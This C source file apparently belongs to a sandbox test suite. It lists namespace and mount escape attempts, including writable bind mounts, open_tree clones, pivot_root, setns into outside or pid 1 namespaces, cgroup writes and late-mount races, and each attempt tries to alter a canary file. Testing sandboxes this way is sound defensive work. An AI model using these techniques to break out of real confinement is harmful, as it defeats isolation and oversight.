/* Namespaces and mounts: other views of the same files, and views of kernel objects that belong to the user. */
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

#ifndef SYS_open_tree
#define SYS_open_tree 428
#define SYS_move_mount 429
#define SYS_fsopen 430
#define SYS_fsconfig 431
#define SYS_fsmount 432
#endif
#ifndef SYS_mount_setattr
#define SYS_mount_setattr 442
#endif
#define SYS_OPEN_TREE_ATTR 467

#define TREE_CLONE 1U
#define TREE_RECURSIVE 0x8000U

struct mount_attributes {
    uint64_t set, clear, propagation, user_namespace;
};

static bool privileged(int flags)
{
    return own_namespaces(flags);
}

/* Binds the canary directory over a directory of its own, writable if the kernel lets it. */
static int bind_writable(const struct facts *facts)
{
    if (!privileged(CLONE_NEWNS) || mount(facts->own, "empty", NULL, MS_BIND, NULL) != 0)
        return REFUSED;
    mount(NULL, "empty", NULL, MS_REMOUNT | MS_BIND, NULL);
    return mark_path(facts, "empty/file", 0);
}

static int bind_recursive(const struct facts *facts)
{
    if (!privileged(CLONE_NEWNS) || mount("/", "empty", NULL, MS_BIND | MS_REC, NULL) != 0)
        return REFUSED;
    mount(NULL, "empty", NULL, MS_REMOUNT | MS_BIND, NULL);
    return mark_path(facts, text("%s/empty%s/file", facts->own, facts->own), 0);
}

static int remount_root(const struct facts *facts)
{
    if (!privileged(CLONE_NEWNS))
        return REFUSED;
    mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL);
    mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND | MS_RELATIME, NULL);
    return mark_path(facts, "file", 0);
}

static int remount_without_namespace(const struct facts *facts)
{
    mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL);
    return mark_path(facts, "file", 0);
}

static int mark_mounts(const struct facts *facts)
{
    (void)facts;
    return done_unless_negative(mount("none", "empty", "tmpfs", 0, NULL));
}

static int setattr(const struct facts *facts)
{
    struct mount_attributes clear = { .clear = 1 /* MOUNT_ATTR_RDONLY */ };
    if (!privileged(CLONE_NEWNS))
        return REFUSED;
    syscall(SYS_mount_setattr, AT_FDCWD, "/", TREE_RECURSIVE, &clear, sizeof clear);
    syscall(SYS_mount_setattr, AT_FDCWD, "/", 0U, &clear, sizeof clear);
    return mark_path(facts, "file", 0);
}

static int detached(unsigned flags)
{
    return (int)syscall(SYS_open_tree, AT_FDCWD, ".", TREE_CLONE | flags | O_CLOEXEC);
}

static int detached_write(const struct facts *facts)
{
    struct mount_attributes clear = { .clear = 1 };
    int tree;
    if (!privileged(CLONE_NEWNS) || (tree = detached(0)) < 0)
        return REFUSED;
    syscall(SYS_mount_setattr, tree, "", (unsigned)AT_EMPTY_PATH, &clear, sizeof clear);
    return mark_descriptor(facts, openat(tree, "file", O_WRONLY | O_CLOEXEC));
}

/* A detached tree's paths begin at its own root: the canary's reads as one below /tmp. */
static int detached_chmod(const struct facts *facts)
{
    int tree;
    (void)facts;
    if (!privileged(CLONE_NEWNS) || (tree = detached(0)) < 0)
        return REFUSED;
    return done_unless_negative(chmod(text("/proc/self/fd/%d", openat(tree, "tmp/file", O_PATH | O_CLOEXEC)), 0777));
}

static int detached_relative(const struct facts *facts)
{
    int tree;
    (void)facts;
    if (!privileged(CLONE_NEWNS) || (tree = detached(0)) < 0)
        return REFUSED;
    return done_unless_negative(fchmodat(tree, "tmp/file", 0777, 0));
}

static int detached_cwd(const struct facts *facts)
{
    int tree;
    (void)facts;
    if (!privileged(CLONE_NEWNS) || (tree = detached(0)) < 0 || fchdir(tree) != 0)
        return REFUSED;
    return done_unless_negative(chmod("tmp/file", 0777));
}

static int detached_utimensat(const struct facts *facts)
{
    const struct timespec past[2] = { { .tv_sec = 1000 }, { .tv_sec = 2000 } };
    int tree;
    (void)facts;
    if (!privileged(CLONE_NEWNS) || (tree = detached(0)) < 0)
        return REFUSED;
    return done_unless_negative(futimens(openat(tree, "tmp/file", O_RDONLY | O_CLOEXEC), past));
}

/* The workspace's own name, in a clone of a directory that holds the same name. */
static int detached_workspace(const struct facts *facts)
{
    int tree;
    if (facts->workspace == NULL)
        return absent("there is no workspace in this mode");
    if (!privileged(CLONE_NEWNS) || (tree = detached(0)) < 0)
        return REFUSED;
    return done_unless_negative(fchmodat(tree, text("shadow%s/file", facts->workspace), 0777, 0));
}

static int detached_attr(const struct facts *facts)
{
    struct mount_attributes clear = { .clear = 1 };
    if (!privileged(CLONE_NEWNS))
        return REFUSED;
    long tree = syscall(SYS_OPEN_TREE_ATTR, AT_FDCWD, ".", TREE_CLONE, &clear, sizeof clear);
    if (tree < 0)
        return done_or_absent(-1, "open_tree_attr");
    return mark_descriptor(facts, openat((int)tree, "file", O_WRONLY | O_CLOEXEC));
}

static int moved_mount(const struct facts *facts)
{
    int tree;
    if (!privileged(CLONE_NEWNS) || (tree = detached(TREE_RECURSIVE)) < 0 ||
        syscall(SYS_move_mount, tree, "", AT_FDCWD, "empty", 4U /* MOVE_MOUNT_F_EMPTY_PATH */) != 0)
        return REFUSED;
    return mark_path(facts, "empty/file", 0);
}

/* What a mount covers: under a sandbox that binds things read-only, the writable original may be below. */
static int uncover(const struct facts *facts)
{
    if (!privileged(CLONE_NEWNS))
        return REFUSED;
    for (int i = 0; i < 3; i++) {
        umount2("/proc", MNT_DETACH);
        umount2("/dev", MNT_DETACH);
        umount2("/tmp", MNT_DETACH);
        umount2("/", MNT_DETACH);
    }
    return mark_path(facts, "file", 0);
}

static int pivot(const struct facts *facts)
{
    if (!privileged(CLONE_NEWNS) || mount(facts->own, facts->own, NULL, MS_BIND | MS_REC, NULL) != 0 ||
        chdir(facts->own) != 0 || syscall(SYS_pivot_root, ".", "empty") != 0 || chdir("/") != 0)
        return REFUSED;
    return mark_path(facts, "/file", 0);
}

static int overlay(const struct facts *facts)
{
    if (!privileged(CLONE_NEWNS) || mount("none", "empty", "overlay", 0,
                                          text("lowerdir=%s/dir,upperdir=%s/tmp,workdir=%s/work,userxattr", facts->own,
                                               facts->own, facts->own)) != 0)
        return REFUSED;
    return mark_path(facts, "empty/new", O_CREAT);
}

/* The file system of the canary a second time: the same disk is the same file system. */
static int disk_again(const struct facts *facts)
{
    struct stat status;
    char line[1024];
    const char *disk = NULL;
    if (stat(".", &status) != 0)
        return REFUSED;
    FILE *mounts = fopen("/proc/self/mounts", "re");
    while (disk == NULL && mounts != NULL && fgets(line, sizeof line, mounts) != NULL) {
        char *source = strtok(line, " ");
        struct stat device;
        if (source != NULL && source[0] == '/' && stat(source, &device) == 0 && S_ISBLK(device.st_mode) &&
            device.st_rdev == status.st_dev)
            disk = source;
    }
    if (disk == NULL && stat("/dev/moonsand-disk", &status) == 0)
        disk = "/dev/moonsand-disk";
    if (disk == NULL)
        return absent("the canary is not on a disk of its own name");
    if (mount(disk, "empty", "ext4", 0, NULL) != 0)
        return REFUSED;
    return mark_path(facts, text("empty%s/file", facts->own), 0);
}

static int join(const struct facts *facts, const char *kind)
{
    int fd = open(text("/proc/%d/ns/%s", (int)facts->victim, kind), O_RDONLY | O_CLOEXEC);
    if (fd < 0 || setns(fd, 0) != 0)
        return REFUSED;
    return mark_path(facts, text("%s/file", facts->own), 0);
}

static int join_mounts(const struct facts *facts)
{
    return join(facts, "mnt");
}

static int join_first(const struct facts *facts)
{
    int fd = open("/proc/1/ns/mnt", O_RDONLY | O_CLOEXEC);
    if (fd < 0 || setns(fd, 0) != 0)
        return REFUSED;
    return mark_path(facts, text("%s/file", facts->own), 0);
}

static int join_by_pidfd(const struct facts *facts)
{
    int fd = (int)syscall(SYS_pidfd_open, facts->victim, 0);
    if (fd < 0 || setns(fd, CLONE_NEWNS | CLONE_NEWIPC) != 0)
        return REFUSED;
    return mark_path(facts, text("%s/file", facts->own), 0);
}

/* PIDFD_GET_MNT_NAMESPACE: a namespace from a pidfd, without /proc. */
static int join_by_pidfd_ioctl(const struct facts *facts)
{
    int fd = (int)syscall(SYS_pidfd_open, facts->victim, 0);
    int namespace = fd < 0 ? -1 : ioctl(fd, 0xff03UL, 0);
    if (namespace < 0 || setns(namespace, CLONE_NEWNS) != 0)
        return REFUSED;
    return mark_path(facts, text("%s/file", facts->own), 0);
}

/* NS_MNT_GET_PREV and NEXT go through the mount namespaces of the machine. */
static int join_neighbour(const struct facts *facts)
{
    int own = open("/proc/self/ns/mnt", O_RDONLY | O_CLOEXEC), other = -1;
    struct {
        uint32_t size, mounts;
        uint64_t id;
    } info = { .size = 16 };
    for (int i = 0; i < 2 && other < 0; i++)
        other = ioctl(own, i == 0 ? 0x8010b70cUL : 0x8010b70bUL, &info);
    if (other < 0 || setns(other, CLONE_NEWNS) != 0)
        return REFUSED;
    return mark_path(facts, text("%s/file", facts->own), 0);
}

static int parent_user_namespace(const struct facts *facts)
{
    int own = open("/proc/self/ns/user", O_RDONLY | O_CLOEXEC);
    int parent = ioctl(own, 0xb702UL /* NS_GET_PARENT */);
    if (parent < 0 || setns(parent, CLONE_NEWUSER) != 0)
        return REFUSED;
    return mark_path(facts, "file", 0);
}

/* A cgroup that belongs to the user, as systemd gives one to each session. */
static int delegated_directly(const struct facts *facts)
{
    const char *delegated = text("/sys/fs/cgroup/unified/%s", strrchr(facts->base, '/') + 1);
    if (access(delegated, F_OK) != 0)
        delegated = text("/sys/fs/cgroup/%s", strrchr(facts->base, '/') + 1);
    if (access(delegated, F_OK) != 0)
        return absent("no cgroup2 hierarchy is mounted");
    return done_unless_negative(mkdir(text("%s/moonsand-mark-%s", delegated, facts->name), 0755));
}

static int delegated_mounted(const struct facts *facts)
{
    if (!privileged(CLONE_NEWNS | CLONE_NEWCGROUP) || mount("none", "empty", "cgroup2", 0, NULL) != 0)
        return REFUSED;
    return done_unless_negative(mkdir(text("empty/moonsand-mark-%s", facts->name), 0755));
}

static int delegated_detached(const struct facts *facts)
{
    if (!privileged(CLONE_NEWNS | CLONE_NEWCGROUP))
        return REFUSED;
    int context = (int)syscall(SYS_fsopen, "cgroup2", 1U);
    if (context < 0 || syscall(SYS_fsconfig, context, 6U /* CREATE */, NULL, NULL, 0) != 0)
        return REFUSED;
    int tree = (int)syscall(SYS_fsmount, context, 1U, 0U);
    return done_unless_negative(tree < 0 ? -1 : mkdirat(tree, text("moonsand-mark-%s", facts->name), 0755));
}

/* uid 0 needs no capability in a cgroup hierarchy, if only it could mount one. */
static int cgroup_v1_mounted(const struct facts *facts)
{
    if (!privileged(CLONE_NEWNS | CLONE_NEWCGROUP) || mount("none", "empty", "cgroup", 0, "pids") != 0)
        return REFUSED;
    return done_unless_negative(mkdir(text("empty/moonsand-mark-%s", facts->name), 0755));
}

static int in_new_pid_namespace(const char *type, const char *file, const char *line)
{
    if (!privileged(CLONE_NEWNS | CLONE_NEWPID | CLONE_NEWNET | CLONE_NEWIPC))
        return REFUSED;
    pid_t pid = fork();
    if (pid == 0) {
        if (mount("none", "empty", type, 0, NULL) != 0)
            _exit(1);
        int fd = open(text("empty/%s", file), O_WRONLY | O_CLOEXEC);
        _exit(fd >= 0 && write(fd, line, strlen(line)) > 0 ? 0 : 1);
    }
    int status;
    waitpid(pid, &status, 0);
    errno = 0;
    return done_if(WIFEXITED(status) && WEXITSTATUS(status) == 0);
}

static int fresh_proc(const struct facts *facts)
{
    (void)facts;
    return in_new_pid_namespace("proc", "sys/vm/stat_interval", "7\n");
}

static int fresh_sys(const struct facts *facts)
{
    (void)facts;
    return in_new_pid_namespace("sysfs", "kernel/mm/ksm/sleep_millisecs", "21\n");
}

/* Waits for what the driver mounts while the command runs: a directory of the user's, bound elsewhere. */
static const char *late_place(const struct facts *facts)
{
    const char *place = text("%s/late", facts->base);
    struct stat before, now;

    if (stat(place, &before) != 0)
        return NULL;
    for (int i = 0; i < 150; i++) {
        if (stat(place, &now) == 0 && now.st_ino != before.st_ino)
            return place;
        usleep(10000);
    }
    errno = ENXIO;
    return NULL;
}

static int late_create(const struct facts *facts)
{
    const char *place = late_place(facts);
    return place ? mark_path(facts, under(place, "mark"), O_CREAT) : REFUSED;
}

static int late_write(const struct facts *facts)
{
    const char *place = late_place(facts);
    return place ? mark_path(facts, under(place, "file"), 0) : REFUSED;
}

static int late_mode(const struct facts *facts)
{
    const char *place = late_place(facts);
    return place ? done_unless_negative(chmod(under(place, "file"), 0777)) : REFUSED;
}

static int late_times(const struct facts *facts)
{
    const struct timespec past[2] = { { .tv_sec = 1000 }, { .tv_sec = 2000 } };
    const char *place = late_place(facts);
    return place ? done_unless_negative(utimensat(AT_FDCWD, under(place, "file"), past, 0)) : REFUSED;
}

static int late_flags(const struct facts *facts)
{
    const char *place = late_place(facts);
    int value = 0x40;
    if (place == NULL)
        return REFUSED;
    return done_unless_negative(ioctl(open(under(place, "file"), O_RDONLY | O_CLOEXEC), 0x40086602UL, &value));
}

static int late_attribute(const struct facts *facts)
{
    const char *place = late_place(facts);
    return place ? done_unless_negative(setxattr(under(place, "file"), "user.mark", "1", 1, 0)) : REFUSED;
}

static const struct attack list[] = {
    { "userns-bind", "own", "a bind mount in a namespace of its own, made writable", bind_writable, NULL, 0 },
    { "userns-bind-recursive", "own", "the whole tree bound elsewhere, made writable", bind_recursive, NULL, 0 },
    { "userns-remount", "own", "the root remounted in a namespace of its own", remount_root, NULL, 0 },
    { "remount", "own", "the root remounted", remount_without_namespace, NULL, 0 },
    { "mount-outside", "mounts:", "a mount that others see", mark_mounts, NULL, ROOT },
    { "userns-mount-setattr", "own", "mount_setattr(2)", setattr, NULL, 0 },
    { "userns-detached", "own", "open_tree(2), a clone made writable", detached_write, NULL, 0 },
    { "userns-detached-chmod", "own", "chmod in a clone whose paths look allowed", detached_chmod, NULL, 0 },
    { "userns-detached-fchmodat", "own", "the same, relative to the clone", detached_relative, NULL, 0 },
    { "userns-detached-cwd", "own", "the same, with the clone as the working directory", detached_cwd, NULL, 0 },
    { "userns-detached-futimens", "own", "times through a descriptor in the clone", detached_utimensat, NULL, 0 },
    { "userns-detached-shadow", "own", "a clone in which the workspace's own name is the canary", detached_workspace,
      NULL, 0 },
    { "userns-open-tree-attr", "own", "open_tree_attr(2)", detached_attr, NULL, 0 },
    { "userns-move-mount", "own", "move_mount(2) of a clone", moved_mount, NULL, 0 },
    { "userns-uncover", "own", "unmounts what covers the writable tree", uncover, NULL, 0 },
    { "userns-pivot", "own", "pivot_root(2)", pivot, NULL, 0 },
    { "userns-overlay", "own", "an overlay whose upper layer is the canary", overlay, NULL, 0 },
    { "mount-disk", "own", "the disk mounted a second time", disk_again, NULL, ROOT },
    { "setns-mount", "own", "the mount namespace of a process outside", join_mounts, NULL, ROOT },
    { "setns-first", "own", "the mount namespace of pid 1", join_first, NULL, ROOT },
    { "setns-pidfd", "own", "the namespaces of a process outside, by pidfd", join_by_pidfd, NULL, ROOT },
    { "setns-pidfd-ioctl", "own", "PIDFD_GET_MNT_NAMESPACE", join_by_pidfd_ioctl, NULL, ROOT },
    { "setns-neighbour", "own", "NS_MNT_GET_PREV: the next mount namespace of the machine", join_neighbour, NULL,
      ROOT | UNPROVEN },
    { "setns-parent-user", "own", "NS_GET_PARENT: the user namespace around", parent_user_namespace, NULL, UNPROVEN },
    { "cgroup-delegated", "cgroup:", "a group in the cgroup that belongs to the user", delegated_directly, NULL, 0 },
    { "cgroup-delegated-mount", "cgroup:", "the same through a mount of its own", delegated_mounted, NULL, 0 },
    { "cgroup-delegated-detached", "cgroup:", "the same through a mount that is nowhere", delegated_detached, NULL, 0 },
    { "cgroup-v1-mount", "cgroup:", "a cgroup hierarchy mounted by a root without capabilities", cgroup_v1_mounted,
      NULL, ROOT },
    { "userns-fresh-proc", "knob:", "/proc/sys through a new /proc", fresh_proc, NULL, ROOT },
    { "userns-fresh-sys", "knob:", "/sys through a new /sys", fresh_sys, NULL, ROOT },
    { "mount-late-create", "source:", "a file made in what is mounted while the command runs", late_create, NULL,
      ALONE },
    { "mount-late-write", "source:", "a file written there", late_write, NULL, ALONE },
    { "mount-late-chmod", "source:", "chmod of a file there", late_mode, NULL, ALONE },
    { "mount-late-utimensat", "source:", "times of a file there", late_times, NULL, ALONE },
    { "mount-late-setflags", "source:", "inode flags of a file there", late_flags, NULL, ALONE },
    { "mount-late-setxattr", "source:", "an extended attribute of a file there", late_attribute, NULL, ALONE },
};

FAMILY(namespaces_family, "namespaces", list);
